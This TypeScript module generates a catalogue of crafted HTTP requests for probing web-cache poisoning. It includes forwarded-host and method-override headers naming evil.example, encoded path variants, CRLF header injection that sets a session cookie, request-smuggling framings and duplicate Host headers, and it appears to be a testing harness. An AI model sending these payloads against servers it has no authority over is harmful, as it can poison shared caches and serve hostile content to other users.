/** A request that tries to change what others receive: its lines, without `Connection`. */
export interface Trick {
  readonly name: string;
  readonly lines: readonly string[];
}

const EVIL = "evil.example";

const HEADERS: readonly (readonly [string, ...string[]])[] = [
  ["X-Forwarded-Host", EVIL],
  ["X-Forwarded-Proto", "gopher"],
  ["X-Forwarded-Scheme", "http"],
  ["X-Forwarded-Port", "81"],
  ["X-Forwarded-For", "6.6.6.6"],
  ["X-Forwarded-Server", EVIL],
  ["X-Forwarded-Prefix", "/evil"],
  ["X-Forwarded-Path", "/terms"],
  ["Forwarded", `for=6.6.6.6;host=${EVIL};proto=http`],
  ["X-Host", EVIL],
  ["X-HTTP-Host-Override", EVIL],
  ["X-Original-Host", EVIL],
  ["X-Original-URL", "/terms"],
  ["X-Rewrite-URL", "/terms"],
  ["X-HTTP-Method-Override", "POST"],
  ["X-HTTP-Method", "DELETE"],
  ["X-Method-Override", "PUT"],
  ["X-Request-Id", "evil-request-id-0001"],
  ["X-Real-IP", "6.6.6.6"],
  ["X-Amz-Website-Redirect-Location", `//${EVIL}`],
  ["X-Remix-Response", "yes"],
  ["X-Cache", "hit"],
  ["Age", "999999"],
  ["Cookie", "a=1; theme=evil"],
  ["Cookie", "evil"],
  ["Cookie", "=evil; ;;"],
  ["Authorization", "Basic ZXZpbDpldmls"],
  ["Origin", `https://${EVIL}`],
  ["Referer", `https://${EVIL}/`],
  ["User-Agent", "evil<script>"],
  ["Accept", "application/json"],
  ["Accept-Language", "tlh"],
  ["Accept-Charset", "utf-7"],
  ["Range", "bytes=0-5"],
  ["Range", "bytes=99999999-"],
  ["If-Range", '"evil"'],
  ["If-Match", '"evil"'],
  ["If-Modified-Since", "Fri, 01 Jan 2100 00:00:00 GMT"],
  ["If-Unmodified-Since", "Fri, 01 Jan 1971 00:00:00 GMT"],
  ["If-None-Match", '"evil"', 'W/"evil'],
  ["Cache-Control", "no-store"],
  ["Cache-Control", "no-cache, max-age=0"],
  ["Cache-Control", "only-if-cached, max-stale=99999"],
  ["Pragma", "no-cache"],
  ["Vary", "*"],
  ["Accept-Encoding", "identity"],
  ["Accept-Encoding", "gzip;q=0, br;q=0, *;q=0"],
  ["Accept-Encoding", "br;q=x, ,;,gzip;;;"],
  ["Accept-Encoding", "BR, GZIP"],
  ["Accept-Encoding", "x".repeat(5000)],
  ["Expect", "100-continue"],
  ["Upgrade", "websocket"],
  ["TE", "trailers"],
  ["Purpose", "prefetch"],
  ["Sec-Fetch-Site", "cross-site"],
  ["X-Middleware-Prefetch", "1"],
  ["Transfer-Encoding", "identity"],
];

const PREFIXES = [
  "/shop?x=evil",
  "/shop?x=1&x=2",
  "/shop?_data=evil",
  "/shop?_data=root",
  "/shop?_data",
  "/shop?index",
];

/** Addresses that some servers treat as the page's own. */
const TARGETS = (page: string) => [
  ...PREFIXES.map((target) => target.replace("/shop", page)),
  ...["?utm_source=evil&utm_source=evil2", "?callback=evil", "?%00", "?#evil", "#evil", ";x=evil", "/;/", "%3fx=evil"],
  ...[
    "%00",
    "%20",
    ".",
    "..",
    "/.",
    "/..",
    "/x/..",
    "%2f",
    "%5c",
    "/",
    "//",
    "%252f",
    ".json",
    "/evil.css",
    "%0d%0aX-Evil: 1",
  ],
];

const OTHER_SPELLINGS = (page: string) => [
  ...[`/${page}`, `/.${page}`, `/x/..${page}`, `/%2e${page}`, page.toUpperCase(), `/\\${page.slice(1)}`],
  ...[`/%${page.charCodeAt(1).toString(16)}${page.slice(2)}`, `http://${EVIL}${page}`, `http:${page}`],
];

/**
 * Requests that have poisoned caches, for a page without a query.
 *
 * @param host the host name that the page is served for
 */
export function poisoningTricks(page: string, host: string): Trick[] {
  const get = `GET ${page} HTTP/1.1`;
  const right = `Host: ${host}`;
  const body = ["Content-Length: 11", "", "x=evil&y=12"];
  const targets = [
    ...TARGETS(page).map((rest) => (rest.startsWith(page) ? rest : page + rest)),
    ...OTHER_SPELLINGS(page),
  ];
  return [
    ...HEADERS.flatMap(([name, ...values]) =>
      values.map((value) => ({ name: `${name}: ${value.slice(0, 40)}`, lines: [get, right, `${name}: ${value}`] })),
    ),
    ...targets.map((target) => ({ name: `GET ${target}`, lines: [`GET ${target} HTTP/1.1`, right] })),
    { name: "another host", lines: [get, `Host: ${EVIL}`] },
    { name: "a host with a path", lines: ["GET / HTTP/1.1", `Host: ${host}${page}?x=`] },
    { name: "the host twice", lines: [get, right, `Host: ${EVIL}`] },
    { name: "the host twice, the other one first", lines: [get, `Host: ${EVIL}`, right] },
    { name: "the host in capitals with a dot", lines: [get, `Host: ${host.toUpperCase()}.`] },
    { name: "no host", lines: [`GET ${page} HTTP/1.0`] },
    { name: "a GET with a body", lines: [get, right, ...body] },
    { name: "a GET with a form", lines: [get, right, "Content-Type: application/x-www-form-urlencoded", ...body] },
    {
      name: "a GET with a body in chunks",
      lines: [get, right, "Transfer-Encoding: chunked", "", "4", "evil", "0", "", ""],
    },
    { name: "a HEAD with a body", lines: [`HEAD ${page} HTTP/1.1`, right, ...body] },
    { name: "a HEAD", lines: [`HEAD ${page} HTTP/1.1`, right] },
    { name: "lengths that differ", lines: [get, right, "Content-Length: 0", ...body] },
    { name: "both framings", lines: [get, right, "Transfer-Encoding: chunked", ...body] },
    { name: "a POST", lines: [`POST ${page} HTTP/1.1`, right, "Content-Type: text/plain", ...body] },
    { name: "an unknown method", lines: [`EVIL ${page} HTTP/1.1`, right] },
    { name: "a method in small letters", lines: [`get ${page} HTTP/1.1`, right] },
    { name: "a folded header", lines: [get, right, "X-Evil: a", " b: c"] },
    { name: "a header with a line break in it", lines: [get, right, "X-Evil: a\rSet-Cookie: session=evil"] },
    { name: "two hundred headers", lines: [get, right, ...Array.from({ length: 200 }, (_none, n) => `X-${n}: evil`)] },
    { name: "a session that is none", lines: [get, right, "Cookie: session=evil"] },
    { name: "a session with a blank", lines: [get, right, "Cookie: a=1;session =evil"] },
    { name: "a session in a second header", lines: [get, right, "Cookie: a=1", "cookie: session=evil"] },
    { name: "a session with a prefix", lines: [get, right, "Cookie: __Host-session=evil"] },
  ];
}
